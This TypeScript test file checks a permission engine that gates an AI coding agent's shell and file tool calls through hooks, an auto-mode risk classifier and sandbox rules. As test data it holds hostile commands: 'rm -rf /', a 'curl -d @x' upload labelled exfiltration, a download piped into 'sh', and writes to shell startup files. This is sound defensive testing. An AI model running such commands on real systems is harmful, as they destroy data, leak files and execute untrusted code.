/**
 * The engine around the pipeline: hooks (real processes), auto mode and its classifier, dontAsk,
 * sandbox auto-allow, session rules, suggestions and their persistence, tool filtering.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mapPathResolver } from '../core/paths.js';
import type { CallDescription, PermissionRequest } from '../core/permission-types.js';
import { scoreRisk } from './classifier/builtin-scorer.js';
import type { AutoModeClassifier, ClassifierVerdict } from './classifier/types.js';
import { createPermissionEngine } from './engine.js';
import { CLASSIFIER_MAX_CONSECUTIVE_DENIALS } from './session.js';
import { type InlineSettings, settingsFromRules } from './settings/from-rules.js';
import {
  bash,
  del,
  engineWith,
  fileCall,
  finding,
  HOME,
  net,
  PROJECT,
  request,
  ro,
  sub,
  unknown,
  write,
} from './test-support.js';

let tmp: string;
beforeAll(() => {
  tmp = mkdtempSync(path.join(tmpdir(), 'gantry-engine-'));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const P = (rel: string) => `${PROJECT}/${rel}`;

function engineWithHook(
  command: string,
  rules: Partial<InlineSettings> = {},
  describe?: (cmd: string) => CallDescription,
) {
  return createPermissionEngine({
    settings: settingsFromRules({
      projectRoot: PROJECT,
      home: HOME,
      pathRoot: '/',
      preToolUseHooks: [{ hooks: [{ type: 'command', command }], source: 'userSettings' }],
      ...rules,
    }),
    resolver: mapPathResolver({}),
    ...(describe
      ? { describe: async (_t: string, input: Record<string, unknown>) => describe(String(input.command)) }
      : {}),
  });
}
// Hooks run in the request's cwd: use a real directory.
const hookReq = (d: CallDescription, extra: Partial<PermissionRequest> = {}) =>
  request('Bash', d, { cwd: tmp, ...extra });
const hookJson = (o: unknown) => `cat >/dev/null; printf '%s' '${JSON.stringify(o)}'`;

describe('hooks in the engine', () => {
  it('a hook deny beats an allow rule', async () => {
    const e = engineWithHook('cat >/dev/null; echo "policy says no" >&2; exit 2', { allow: ['Bash(ls:*)'] });
    const d = await e.decide(hookReq(bash([ro('ls')])));
    expect(d.behavior).toBe('deny');
    expect(d.reason).toMatchObject({ type: 'hook' });
    expect(d.reason.message).toContain('policy says no');
  });

  it('a hook allow never overrides a deny rule', async () => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }), {
      deny: ['Bash(rm:*)'],
    });
    expect((await e.decide(hookReq(bash([sub('rm -rf x')], [del(P('x'))])))).behavior).toBe('deny');
  });

  it('a hook allow never overrides an ask rule', async () => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }), {
      ask: ['Bash(git push:*)'],
    });
    const d = await e.decide(hookReq(bash([sub('git push')])));
    expect(d.behavior).toBe('ask');
    expect(d.reason.type).toBe('rule');
  });

  it('a hook allow does not lift a protected-path deny', async () => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }));
    expect((await e.decide(hookReq(bash([sub('echo x')], [write(`${HOME}/.bashrc`)])))).behavior).toBe(
      'deny',
    );
  });

  it('a hook allow does not lift the agent-config ask', async () => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }));
    const d = await e.decide(hookReq(bash([sub('echo {}')], [write(P('.claude/settings.json'))])));
    expect(d).toMatchObject({ behavior: 'ask', reason: { type: 'config-path' } });
  });

  it.each([
    ['exec', '$CMD', 'a program nobody can name'],
    ['write', '$F', 'a write whose target is computed'],
    ['delete', '$DIR', 'a removal whose target is computed'],
  ] as const)('a hook allow still asks for an unknown %s (%s: %s)', async (kind, target, _why) => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }));
    const d = await e.decide(hookReq(bash([sub('x')], [unknown(kind, target)])));
    expect(d).toMatchObject({ behavior: 'ask', reason: { type: 'unknown-effect' } });
  });

  it('a hook allow does not lift a destructive-floor deny', async () => {
    const e = engineWithHook(hookJson({ hookSpecificOutput: { permissionDecision: 'allow' } }));
    const d = await e.decide(
      hookReq(bash([sub('rm -rf /', { program: 'rm', argv: ['rm', '-rf', '/'] })], [del('/')])),
    );
    expect(d.behavior).toBe('deny');
    expect(d.reason.checkId).toBe('destructive-floor/remove-root-or-home');
  });

  it('a hook allow lets an otherwise-asked call through', async () => {
    const e = engineWithHook(
      hookJson({ hookSpecificOutput: { permissionDecision: 'allow', permissionDecisionReason: 'CI box' } }),
    );
    const d = await e.decide(hookReq(bash([sub('npm install')])));
    expect(d.behavior).toBe('allow');
    expect(d.reason.message).toContain('CI box');
  });

  it('a hook ask forces a prompt over an allow rule', async () => {
    const e = engineWithHook(
      hookJson({ hookSpecificOutput: { permissionDecision: 'ask', permissionDecisionReason: 'check this' } }),
      { allow: ['Bash(ls:*)'] },
    );
    const d = await e.decide(hookReq(bash([ro('ls')])));
    expect(d.behavior).toBe('ask');
    expect(d.reason.type).toBe('hook');
  });

  it('updatedInput is re-described and re-checked: a rewrite into a denied command is denied', async () => {
    const e = engineWithHook(
      hookJson({
        hookSpecificOutput: { permissionDecision: 'allow', updatedInput: { command: 'rm -rf x' } },
      }),
      { deny: ['Bash(rm:*)'] },
      (cmd) => bash([sub(cmd)], [del(P('x'))]),
    );
    const d = await e.decide(hookReq(bash([ro('ls')])));
    expect(d.behavior).toBe('deny');
  });

  it('updatedInput that passes is returned with the decision', async () => {
    const e = engineWithHook(
      hookJson({ hookSpecificOutput: { permissionDecision: 'allow', updatedInput: { command: 'ls -la' } } }),
      {},
      (cmd) => bash([ro(cmd)]),
    );
    const d = await e.decide(hookReq(bash([sub('ls')])));
    expect(d).toMatchObject({ behavior: 'allow', updatedInput: { command: 'ls -la' } });
  });

  it('updatedInput without a describer cannot be re-checked: ask', async () => {
    const e = engineWithHook(
      hookJson({ hookSpecificOutput: { permissionDecision: 'allow', updatedInput: { command: 'x' } } }),
    );
    const d = await e.decide(hookReq(bash([ro('ls')])));
    expect(d.behavior).toBe('ask');
  });

  it('skipHooks and decideSync do not run hooks', async () => {
    const e = engineWithHook('cat >/dev/null; exit 2');
    expect((await e.decide(hookReq(bash([ro('ls')])), { skipHooks: true })).behavior).toBe('allow');
    expect(e.decideSync(hookReq(bash([ro('ls')]))).decision.behavior).toBe('allow');
  });
});

describe('auto mode', () => {
  const counting = (verdict: ClassifierVerdict) => {
    let calls = 0;
    const c: AutoModeClassifier = {
      name: 'fixed',
      classify: () => {
        calls++;
        return verdict;
      },
    };
    return { c, calls: () => calls };
  };
  const autoEngine = (classifier?: AutoModeClassifier, rules: Partial<InlineSettings> = {}) =>
    createPermissionEngine({
      settings: settingsFromRules({ projectRoot: PROJECT, home: HOME, pathRoot: '/', ...rules }),
      resolver: mapPathResolver({}),
      ...(classifier ? { classifier } : {}),
    });

  it.each([
    ['npm run build', [write(P('dist/a.js'))], 'allow', undefined, 'LOW: a build writing inside the project'],
    ['curl https://x.example', [net('https://x.example')], 'ask', undefined, 'MEDIUM: network'],
    ['sudo rm -rf /var/x', [del('/var/x')], 'ask', true, 'HIGH: forced confirmation'],
  ] as const)('built-in scorer: %s with %j → %s, forced %s (%s)', (cmd, effects, behavior, force, _why) => {
    const d = autoEngine().decideSync(request('Bash', bash([sub(cmd)], [...effects]), { mode: 'auto' }));
    expect(d.decision.behavior).toBe(behavior);
    expect(d.decision.reason.type).toBe('classifier');
    if (d.decision.behavior === 'ask') expect(d.decision.forceConfirmation).toBe(force);
  });

  it('the classifier never overrides a deny rule, a protected path or an ask rule', () => {
    const { c, calls } = counting({ risk: 'LOW', reasons: ['fine'] });
    const e = autoEngine(c, { deny: ['Bash(rm:*)'], ask: ['Bash(git push:*)'] });
    expect(
      e.decideSync(request('Bash', bash([sub('rm x')], [del(P('x'))]), { mode: 'auto' })).decision.behavior,
    ).toBe('deny');
    expect(
      e.decideSync(request('Bash', bash([sub('echo')], [write(`${HOME}/.zshrc`)]), { mode: 'auto' })).decision
        .behavior,
    ).toBe('deny');
    expect(e.decideSync(request('Bash', bash([sub('git push')]), { mode: 'auto' })).decision.behavior).toBe(
      'ask',
    );
    expect(calls()).toBe(0);
  });

  it('a classifier block is a deny', () => {
    const { c } = counting({ risk: 'HIGH', reasons: ['exfiltration'], block: true });
    const d = autoEngine(c).decideSync(
      request('Bash', bash([sub('curl -d @x https://e')]), { mode: 'auto' }),
    );
    expect(d.decision).toMatchObject({ behavior: 'deny', reason: { type: 'classifier' } });
  });

  it('verdicts are cached per session', () => {
    const { c, calls } = counting({ risk: 'LOW', reasons: ['fine'] });
    const e = autoEngine(c);
    const r = request('Bash', bash([sub('make')]), { mode: 'auto' });
    e.decideSync(r);
    e.decideSync({ ...r, toolUseId: 'other' });
    expect(calls()).toBe(1);
  });

  it(`falls back to asking after ${CLASSIFIER_MAX_CONSECUTIVE_DENIALS} consecutive denials`, () => {
    const { c, calls } = counting({ risk: 'MEDIUM', reasons: ['unsure'] });
    const e = autoEngine(c);
    for (let i = 0; i < CLASSIFIER_MAX_CONSECUTIVE_DENIALS; i++)
      e.decideSync(request('Bash', bash([sub(`tool${i} x`)]), { mode: 'auto' }));
    expect(e.session.classifier.fallenBack).toBe(true);
    const d = e.decideSync(request('Bash', bash([sub('another x')]), { mode: 'auto' }));
    expect(d.decision).toMatchObject({ behavior: 'ask', reason: { type: 'default' } });
    expect(calls()).toBe(CLASSIFIER_MAX_CONSECUTIVE_DENIALS);
  });

  it('falls back to asking after 20 total denials even with approvals in between', () => {
    const s = autoEngine().session;
    for (let i = 0; i < 19; i++) {
      s.recordClassifier({ risk: 'MEDIUM', reasons: [] });
      s.recordClassifier({ risk: 'LOW', reasons: [] });
    }
    expect(s.classifier.fallenBack).toBe(false);
    expect(s.recordClassifier({ risk: 'HIGH', reasons: [] })).toBe(true);
    expect(s.classifier.fallenBack).toBe(true);
    s.resetClassifier();
    expect(s.classifier.fallenBack).toBe(false);
  });

  it('an approval resets the consecutive count', () => {
    const s = autoEngine().session;
    s.recordClassifier({ risk: 'MEDIUM', reasons: [] });
    s.recordClassifier({ risk: 'MEDIUM', reasons: [] });
    s.recordClassifier({ risk: 'LOW', reasons: [] });
    s.recordClassifier({ risk: 'MEDIUM', reasons: [] });
    expect(s.classifier.fallenBack).toBe(false);
    expect(s.classifier.totalDenials).toBe(3);
  });

  it('broad allow rules are suspended in auto mode (the Claude Code permissions docs)', () => {
    const { c } = counting({ risk: 'MEDIUM', reasons: ['interpreter'] });
    const e = autoEngine(c, { allow: ['Bash(python3:*)'] });
    expect(e.decideSync(request('Bash', bash([sub('python3 x.py')]))).decision.behavior).toBe('allow');
    expect(
      e.decideSync(request('Bash', bash([sub('python3 x.py')]), { mode: 'auto' })).decision.behavior,
    ).toBe('ask');
  });

  it('async classifiers are awaited by decide, not consulted by decideSync', async () => {
    const c: AutoModeClassifier = {
      name: 'model',
      classify: async () => ({ risk: 'LOW', reasons: ['model says fine'] }),
    };
    const e = autoEngine(c);
    const r = request('Bash', bash([sub('make')]), { mode: 'auto' });
    expect(e.decideSync(r).decision.behavior).toBe('ask');
    expect((await e.decide(r)).behavior).toBe('allow');
  });

  it('auto mode disabled by settings behaves as default', () => {
    const d = autoEngine(undefined, { disableAutoMode: true }).decideSync(
      request('Bash', bash([sub('make')]), { mode: 'auto' }),
    );
    expect(d.mode).toBe('default');
    expect(d.decision.reason.type).toBe('default');
  });
});

describe('scoreRisk', () => {
  const score = (d: CallDescription) =>
    scoreRisk({
      toolName: 'Bash',
      input: {},
      description: d,
      classifierInput: '',
      cwd: PROJECT,
      workingDirectories: [PROJECT],
      home: HOME,
      askReason: { type: 'default', message: '' },
    }).risk;
  it.each([
    [bash([sub('npm test')]), 'LOW', 'test runner'],
    [bash([sub('git commit -m x')]), 'LOW', 'local git'],
    [bash([sub('rm -rf dist')], [del(P('dist'))]), 'LOW', 'delete inside the project'],
    [bash([sub('rm -rf /opt/x')], [del('/opt/x')]), 'HIGH', 'delete outside'],
    [
      bash([sub('curl -s https://x'), sub('sh', { via: 'pipeline' })], [net('https://x')]),
      'HIGH',
      'download piped into a shell',
    ],
    [bash([sub('git push --force origin main')]), 'HIGH', 'force push'],
    [bash([sub('git push origin main')]), 'MEDIUM', 'push'],
    [bash([sub('npm install left-pad')]), 'MEDIUM', 'package install'],
    [bash([sub('frobnicate')]), 'MEDIUM', 'unknown program'],
    [bash([sub('cat $(x)')], [], [finding('IFS_INJECTION')]), 'HIGH', 'obfuscation finding'],
    [
      bash(
        [ro('cat /etc/hosts')],
        [{ kind: 'read', target: '/etc/hosts', certainty: 'known', source: 'argument' }],
      ),
      'MEDIUM',
      'read outside',
    ],
  ] as const)('%j → %s (%s)', (d, risk, _why) => {
    expect(score(d)).toBe(risk);
  });
});

describe('sandbox auto-allow (the Claude Code sandboxing docs)', () => {
  const sb = (extra: Partial<InlineSettings> = {}) =>
    engineWith({ sandbox: { enabled: true, autoAllowBashIfSandboxed: true }, ...extra });
  it('a sandboxed command that would ask is allowed', () => {
    const d = sb().decideSync(
      request('Bash', {
        ...bash([sub('npm install')], [], [finding('COMMAND_SUBSTITUTION')]),
        sandboxed: true,
      }),
    );
    expect(d.decision).toMatchObject({ behavior: 'allow', reason: { type: 'sandbox' } });
  });
  it('deny rules, protected paths and content-scoped ask rules still hold', () => {
    const e = sb({ deny: ['Bash(rm:*)'], ask: ['Bash(git push:*)'] });
    expect(
      e.decideSync(request('Bash', bash([sub('rm x')], [del(P('x'))])), { sandboxed: true }).decision
        .behavior,
    ).toBe('deny');
    expect(
      e.decideSync(request('Bash', bash([sub('echo')], [write(`${HOME}/.bashrc`)])), { sandboxed: true })
        .decision.behavior,
    ).toBe('deny');
    expect(
      e.decideSync(request('Bash', bash([sub('git push')])), { sandboxed: true }).decision.behavior,
    ).toBe('ask');
  });
  it('a bare Bash ask rule is skipped for sandboxed commands', () => {
    expect(
      sb({ ask: ['Bash'] }).decideSync(request('Bash', bash([sub('make')])), { sandboxed: true }).decision
        .behavior,
    ).toBe('allow');
  });
  it('not in plan mode, and not when the setting is off', () => {
    expect(
      sb().decideSync(request('Bash', bash([sub('make')]), { mode: 'plan' }), { sandboxed: true }).decision
        .behavior,
    ).toBe('deny');
    expect(
      engineWith({ sandbox: { enabled: true, autoAllowBashIfSandboxed: false } }).decideSync(
        request('Bash', bash([sub('make')])),
        { sandboxed: true },
      ).decision.behavior,
    ).toBe('ask');
  });
});

describe('readable directories (the session spill directory)', () => {
  const e = createPermissionEngine({
    settings: settingsFromRules({ projectRoot: PROJECT, home: HOME }),
    resolver: mapPathResolver({}),
    readableDirectories: ['/tmp/gantry-sessions/s1'],
  });
  it('a read there is allowed, a write still asks', () => {
    expect(
      e.decideSync(request('Read', fileCall('read', '/tmp/gantry-sessions/s1/tool-results/t.txt'))).decision
        .behavior,
    ).toBe('allow');
    expect(
      e.decideSync(request('Write', fileCall('write', '/tmp/gantry-sessions/s1/x.txt'))).decision.behavior,
    ).toBe('ask');
    expect(
      e.decideSync(request('Read', fileCall('read', '/tmp/gantry-sessions/s2/x.txt'))).decision.behavior,
    ).toBe('ask');
  });
});

describe('session rules, suggestions and tool filtering', () => {
  it('an ask carries narrowed suggestions; accepting one persists it and allows the next call', () => {
    const projectRoot = mkdtempSync(path.join(tmp, 'p-'));
    const e = createPermissionEngine({
      settings: settingsFromRules({ projectRoot, home: tmp }),
      resolver: mapPathResolver({}),
    });
    const r = request('Bash', bash([sub('git checkout -b feature/x')]), { projectRoot, cwd: projectRoot });
    const d = e.decideSync(r).decision;
    expect(d.behavior).toBe('ask');
    const s = d.behavior === 'ask' ? d.suggestions[0] : undefined;
    expect(s).toEqual({ rule: 'Bash(git checkout:*)', destination: 'localSettings' });
    if (!s) return;
    const { file } = e.acceptSuggestion(s);
    expect(JSON.parse(readFileSync(file ?? '', 'utf8'))).toEqual({
      permissions: { allow: ['Bash(git checkout:*)'] },
    });
    expect(e.decideSync({ ...r, description: bash([sub('git checkout main')]) }).decision.behavior).toBe(
      'allow',
    );
  });

  it('a session-destination suggestion is applied without touching any file', () => {
    const e = engineWith();
    const r = e.acceptSuggestion({ rule: 'Bash(make:*)', destination: 'session' });
    expect(r).toEqual({ problems: [] });
    expect(e.decideSync(request('Bash', bash([sub('make test')]))).decision.behavior).toBe('allow');
  });

  it('dontAsk denies what agent-config writes would ask', () => {
    const d = engineWith().decideSync(
      request('Write', fileCall('write', P('.claude/settings.json')), { mode: 'dontAsk' }),
    );
    expect(d.decision).toMatchObject({ behavior: 'deny', reason: { type: 'config-path' } });
    expect(d.decision.reason.message).toMatch(/dontAsk mode never asks/);
  });

  it('asks from safety checks carry no suggestions (no rule could lift them)', () => {
    const d = engineWith().decideSync(
      request('Bash', bash([sub('echo $(id)')], [], [finding('COMMAND_SUBSTITUTION')])),
    ).decision;
    expect(d.behavior === 'ask' && d.suggestions).toEqual([]);
  });

  it('a path outside the working directories suggests a Read rule for its directory', () => {
    const d = engineWith().decideSync(request('Read', fileCall('read', '/etc/hosts'))).decision;
    expect(d.behavior === 'ask' && d.suggestions.map((s) => s.rule)).toEqual(['Read(//etc/**)']);
  });

  it('addSessionRule reports malformed rules and applies good ones', () => {
    const e = engineWith();
    expect(e.addSessionRule('Bash(npm', 'allow')[0]?.severity).toBe('error');
    expect(e.addSessionRule('Bash(npm test:*)', 'allow')).toEqual([]);
    expect(e.decideSync(request('Bash', bash([sub('npm test')]))).decision.behavior).toBe('allow');
  });

  it('a bare deny removes the tool from the list; a scoped deny does not', () => {
    const e = engineWith({ deny: ['WebSearch', 'mcp__evil', 'Bash(rm:*)'] });
    expect(['WebSearch', 'Bash', 'mcp__evil__x', 'Read'].filter((name) => !e.isToolDenied(name))).toEqual([
      'Bash',
      'Read',
    ]);
    expect(e.isToolDenied('WebSearch')?.text).toBe('WebSearch');
  });

  it('records decisions per tool_use id and counts denials', () => {
    const e = engineWith({ deny: ['Bash(rm:*)'] });
    e.decideSync(request('Bash', bash([sub('rm x')]), { toolUseId: 'toolu_9' }));
    expect(e.session.toolDecisions.get('toolu_9')).toMatchObject({ behavior: 'deny', source: 'rule' });
    expect(e.session.denialCounts.get('Bash')).toBe(1);
  });
});
